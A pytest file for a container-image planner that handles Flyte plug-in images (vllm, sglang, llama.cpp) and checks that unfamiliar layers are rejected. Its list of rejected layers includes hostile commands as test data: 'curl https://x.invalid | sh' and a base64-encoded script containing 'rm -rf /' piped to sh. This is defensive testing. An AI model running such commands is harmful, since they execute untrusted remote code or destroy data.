"""The images of Flyte's plug-ins: what is built of them, and what the machine may have in place of the rest.

``plugin_images.json`` is what the SDK 2.12.1 makes of the plug-ins' images 2.12.1 (remote_builder._get_layers_proto):
the three defaults, and llama.cpp's without CUDA at a given commit, and for several GPUs.
"""

from __future__ import annotations

import base64
import copy
import json
from pathlib import Path
from typing import Any

import pytest

from flyted.contract.errors import Unsupported
from flyted.plan.images.known_layers import needs_of
from flyted.plan.images.layers import plan_of
from flyted.plan.images.recipe import Recipe
from flyted.plan.images.root import RootRecipe
from flyted.plan.images.spec import engine_of, image_from_spec, pip_installs, recipe_from_spec

IMAGES: dict[str, Any] = json.loads(Path(__file__).with_name("plugin_images.json").read_text())
NVCC = "/usr/local/cuda-13.0/bin/nvcc"
NUMA = "/usr/lib/*/libnuma.so.1"


def recipe(name: str, *more: dict[str, Any]) -> Recipe:
    """The recipe of a plug-in's image, with more layers, as an environment."""
    spec = copy.deepcopy(IMAGES[name])
    spec["layers"] += more
    return recipe_from_spec(spec)


def test_pip_layers_are_built_as_they_are_in_their_order() -> None:
    """Layer by layer, as the plug-ins' comments ask for: each resolves upon the one before."""
    assert [i.requirements for i in recipe("vllm").installs] == [
        ("flyte==2.12.1",), ("flyteplugins-vllm",), ("vllm==0.26.0",), ("flashinfer-jit-cache==0.6.14",),
    ]  # fmt: skip
    assert recipe("vllm").installs[3].options == ("--default-index", "https://flashinfer.ai/whl/cu130")
    assert recipe("vllm").needs == ()
    sglang = recipe("sglang")
    assert [i.requirements for i in sglang.installs[1:]] == [
        ("flyteplugins-sglang",), ("sglang==0.5.16",), ("sglang-router==0.3.2",),
    ]  # fmt: skip
    assert dict(sglang.env)["CUDA_HOME"] == "/usr/local/cuda-13.0"


MACHINES: list[tuple[str, set[str], bool, bool]] = [
    ("sglang", {NVCC, "/usr/bin/g++", NUMA}, True, True),
    ("sglang", {"/usr/local/cuda-12.8/bin/nvcc", "/usr/bin/nvcc", "/usr/bin/c++", NUMA}, True, False),
    ("sglang", {NVCC, NUMA}, True, False),
    ("sglang", {NVCC, "/usr/bin/g++"}, True, False),
    ("sglang", {NUMA}, False, True),  # without a GPU nothing is compiled
    ("sglang", set(), False, False),
    ("llamacpp", {"/usr/local/bin/llama-server"}, True, True),
    ("llamacpp-fat", {"/opt/llama.cpp/build/bin/llama-server"}, True, True),
    ("llamacpp-cpu", {"/usr/bin/llama-server"}, False, True),
    ("llamacpp-cpu", {NVCC, "/usr/bin/g++", NUMA}, False, False),
    ("vllm", set(), True, True),
]


@pytest.mark.parametrize(("name", "have", "gpu", "venv"), MACHINES)
def test_what_the_machine_has_is_not_built(name: str, have: set[str], gpu: bool, venv: bool) -> None:
    """The compiler of just its CUDA, g++ and libnuma, or llama-server; otherwise all of it is, layer by layer."""
    made = image_from_spec(IMAGES[name], {}, {}, "x86_64", have.__contains__, gpu=gpu)
    assert isinstance(made, Recipe if venv else RootRecipe)


@pytest.mark.parametrize("name", ["sglang", "llamacpp", "llamacpp-cpu", "llamacpp-fat"])
def test_a_plug_ins_image_is_built_whole(name: str) -> None:
    """Each command of its layers, in their order, upon the SDK's base or a Debian like it; then the variables."""
    made = image_from_spec(IMAGES[name], {}, {}, "x86_64", lambda _: False)
    assert isinstance(made, RootRecipe)
    plan = plan_of(made, "x86_64", {})
    steps = [json.dumps(job.job["step"]) for job in plan.jobs]
    wanted = [each for layer in IMAGES[name]["layers"] for each in layer.get("commands", {}).get("cmd", [])]
    wanted += [each for layer in IMAGES[name]["layers"] for each in layer.get("pipPackages", {}).get("packages", [])]
    left = iter(steps)
    assert all(any(json.dumps(each)[1:-1] in step for step in left) for each in wanted)
    assert len(wanted) >= 5
    last = IMAGES[name]["layers"][-2 if "llama" in name else 3]["env"]["envVariables"]
    path = dict(plan.config.env)["PATH"]
    assert path.startswith(last["PATH"].removesuffix("$PATH"))
    assert path.endswith("/usr/local/nvidia/bin:/usr/local/cuda/bin")


def test_an_engine_is_seen_in_layers_too() -> None:
    """Before its gigabytes are fetched: it needs a GPU, and which build it is."""
    found = pip_installs(IMAGES["sglang"])
    assert engine_of(found) == "sglang==0.5.16"
    assert engine_of(pip_installs({**IMAGES["sglang"], "layers": IMAGES["sglang"]["layers"][:5]})) == ""
    assert pip_installs({"dockerfile": {"name": "Dockerfile", "text": "FROM nginx"}}) == ()
    odd: list[dict[str, Any]] = [{"pipPackages": {"packages": ["-x"]}}, {"pipPackages": {"packages": ["sglang"]}}]
    assert engine_of(pip_installs({"layers": [{"workdir": {"workdir": "/"}}, *odd]})) == "sglang"


def test_more_of_ones_own_is_built_upon_it() -> None:
    """Packages and variables after the plug-in's layers."""
    made = recipe("sglang", {"pipPackages": {"packages": ["six"]}})
    assert made.installs[-1].requirements == ("six",)


KEYRING = IMAGES["sglang"]["layers"][1]["commands"]["cmd"]
LLAMA = IMAGES["llamacpp"]["layers"][2]["commands"]["cmd"]
SCRIPT = base64.b64encode(b"cmake -S /opt/llama.cpp -B /x; rm -rf /").decode()
OTHERS: list[tuple[str, dict[str, Any]]] = [
    ("aptPackages", {"packages": ["libnuma-dev"]}),
    ("aptPackages", {"packages": [*IMAGES["sglang"]["layers"][0]["aptPackages"]["packages"], "nginx"]}),
    ("aptPackages", {**IMAGES["sglang"]["layers"][0]["aptPackages"], "secretMounts": [{"key": "k"}]}),
    ("commands", {"cmd": [*KEYRING, "make install"]}),
    ("commands", {"cmd": KEYRING[:3]}),
    ("commands", {"cmd": [*KEYRING[:3], "apt-get install -y cuda-toolkit-13-0 nginx"]}),
    ("commands", {"cmd": []}),
    ("commands", {"cmd": [*LLAMA, "curl https://x.invalid | sh"]}),
    ("commands", {"cmd": ["git clone https://x.invalid/llama.cpp /opt/llama.cpp"]}),
    ("commands", {"cmd": [f"echo {SCRIPT} | base64 -d | sh"]}),
    ("commands", {"cmd": ["echo %%% | base64 -d | sh"]}),
    ("commands", {"cmd": "ls"}),
    ("commands", {"cmd": [1]}),
    ("workdir", {"workdir": "/x"}),
]


@pytest.mark.parametrize(("kind", "body"), OTHERS)
def test_a_layer_that_is_not_word_for_word_known_is_built(kind: str, body: dict[str, Any]) -> None:
    """Never half: one command more, and it is another image, whose commands nobody has looked at."""
    assert needs_of(kind, body) is None
    with pytest.raises(Unsupported, match="layer 8 of the image"):
        recipe("sglang", {kind: body})  # as an environment


def test_the_same_layers_in_another_image_are_built() -> None:
    """There somebody wants them for something that we do not know."""
    with pytest.raises(Unsupported, match="layer 1 of the image"):
        recipe_from_spec({**IMAGES["sglang"], "layers": IMAGES["sglang"]["layers"][:4]})
